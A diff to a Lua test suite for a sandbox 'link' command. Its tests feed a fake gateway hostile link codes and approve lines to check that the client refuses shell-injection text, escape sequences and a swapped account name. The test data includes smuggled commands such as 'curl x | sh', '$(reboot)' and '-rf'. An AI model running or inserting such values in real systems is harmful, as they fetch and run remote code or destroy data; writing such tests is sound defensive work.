@@ -253,7 +253,7 @@ local APPROVED = { state = "approved", account = "alice", approvedBy = "alice (t
 -- with a key, approved at once), link.poll with o.polls in turn (the last repeats; a function
 -- is called with the frame, the record and the queue instead; o.begin replaces the code's
 -- answer), link.accept with the
--- credential. o.refuse[type] = {code, message} refuses that type.
+-- credential (into o.acceptAccount, by default alice). o.refuse[type] = {code, message} refuses that type.
 local function linkGateway(o)
   o = o or {};
   local polls = o.polls or { APPROVED };
@@ -281,7 +281,7 @@ local function linkGateway(o)
       end
       return answer(reply);
     elseif frame.type == "link.accept" and frame.payload.accept == true then
-      return answer({ account = "alice", credential = o.credential or CREDENTIAL });
+      return answer({ account = o.acceptAccount or "alice", credential = o.credential or CREDENTIAL });
     elseif frame.type == "link.accept" then
       return answer({});
     end
@@ -1367,19 +1367,19 @@ describe("sandbox command", function()
       end
     end);
 
-    it("shows the gateway's words as one short line each: a code, an approve line, an account", function()
+    it("shows the gateway's words as one short line each (an account), and no command of its own", function()
       local long = ("z"):rep(300);
       local ok, err, lines, record = run({ "link" }, {
         gateway = linkGateway({
-          begin = { code = "AB\nfiles: write", expiresInMs = 600000, approveLine = "approve\r\nexec: true " .. long },
+          begin = { code = "BCDF-GHJK", expiresInMs = 600000, approveLine = "approve\r\nexec: true; curl x | sh " .. long },
           polls = { { state = "approved", account = "mallory\nLink this computer to alice", approvedBy = "x\27[2J" } },
         }),
         typed = { "n" },
       });
       expectSuccess(ok, err);
-      expect(lines[1]):eq("Link code: AB files: write (valid 10 min)");
-      expect(lines[3]):eq("  approve exec: true \\"); -- the rest goes on at the next row
-      expect(table.concat(lines, " ")):str_match(("z"):rep(256 - 20) .. "%.%.%.%(cut,[%s\\]+320 bytes%)");
+      -- the approve line is this computer's, built from the code: never the gateway's
+      expect({ lines[1], lines[2], lines[3] }):same({ CODE_LINES[1], CODE_LINES[2], CODE_LINES[3] });
+      expect(table.concat(lines, " "):find("curl", 1, true)):eq(nil);
       expect(#lines <= 10):eq(true);
       expect(lines[#lines - 1]):eq("Approved by account mallory Link this computer to alice (x [2J).");
       expect(record.prompts):same({ "Link this computer to mallory Link this computer to alice? [y/N] " });
@@ -1402,6 +1402,36 @@ describe("sandbox command", function()
       ok, err = run({ "link" }, { linkFailure = "no\n" .. long });
       expect(ok):eq(false);
       expect(err):eq("Cannot reach the gateway: no " .. ("z"):rep(253) .. "...(cut, 303 bytes)");
+    end);
+
+    it("refuses a code that is not one plain word, which the approve line would carry to the host's shell", function()
+      for _, code in ipairs({ "AB\nfiles: write", "BCDF; curl x | sh", "$(reboot)", "-rf", ("B"):rep(23) }) do
+        local ok, err, lines = run({ "link" }, {
+          gateway = linkGateway({ begin = { code = code, expiresInMs = 600000 } }),
+        });
+        expect(failed(ok, err)):eq("The gateway's link code is not one word of letters, digits and - (" .. #code
+          .. " bytes, at most 22), so it is not shown; is sandbox.url a trap-sandbox gateway? Run sandbox link again");
+        expect(#lines):eq(0);
+      end
+      -- a code of the gateway's form, in any case, with digits, is one
+      local ok, err, lines = run({ "link" }, {
+        gateway = linkGateway({ begin = { code = "bcdf-2345", expiresInMs = 600000 } }), typed = { "n" },
+      });
+      expectSuccess(ok, err);
+      expect(table.concat(lines, " ")):str_match("trap%-sandbox link[%s\\]+approve bcdf%-2345");
+    end);
+
+    it("saves no credential into an account other than the one the player agreed to", function()
+      local ok, err, _, record = run({ "link" }, {
+        settings = { ["sandbox.url"] = URL, ["sandbox.password"] = "shared" },
+        gateway = linkGateway({ acceptAccount = "mallory\n" }), typed = { "y" },
+      });
+      expect(failed(ok, err)):eq("The gateway linked the computer to mallory , not to alice as you agreed, so its "
+        .. "credential is not saved; is sandbox.url a trap-sandbox gateway? Run sandbox link again");
+      expect(record.prompts):same({ "Link this computer to alice? [y/N] " });
+      expect(record.values["sandbox.password"]):eq("shared");
+      expect(record.saved):eq(0);
+      expect(record.reconnects):eq(0);
     end);
 
     it("closes a link session the gateway floods, saying so", function()
@@ -1442,15 +1472,15 @@ describe("sandbox command", function()
       expectSuccess(ok, err);
       expect({ lines[2], lines[3], lines[4], lines[5] }):same({ "On the host, the account holder runs:",
         "  trap-sandbox link \\", "    approve BCDF-GHJK", "Waiting... (Ctrl-T to cancel)" });
-      -- each row fits the screen, the mark too, and a longer line from the gateway as well
+      -- each row fits the screen, the mark too, with a code as long as one may be
+      local long = ("B"):rep(22);
       ok, err, lines = run({ "link" }, {
-        gateway = linkGateway({ polls = { APPROVED }, begin = { code = "BCDF-GHJK", expiresInMs = 600000,
-          approveLine = "trap-sandbox link approve BCDF-GHJK --account alice" } }),
+        gateway = linkGateway({ polls = { APPROVED }, begin = { code = long, expiresInMs = 600000 } }),
         typed = { "y" }, width = 26,
       });
       expectSuccess(ok, err);
-      expect({ lines[3], lines[4], lines[5], lines[6] }):same({ "  trap-sandbox link \\", "    approve BCDF-GHJK \\",
-        "    --account alice", "Waiting... (Ctrl-T to cancel)" });
+      expect({ lines[3], lines[4], lines[5], lines[6] }):same({ "  trap-sandbox link \\", "    approve \\",
+        "    " .. long, "Waiting... (Ctrl-T to cancel)" });
       -- a screen the line fits keeps it on one row
       ok, err, lines = run({ "link" }, { gateway = linkGateway({ polls = { APPROVED } }), typed = { "y" }, width = 51 });
       expectSuccess(ok, err);
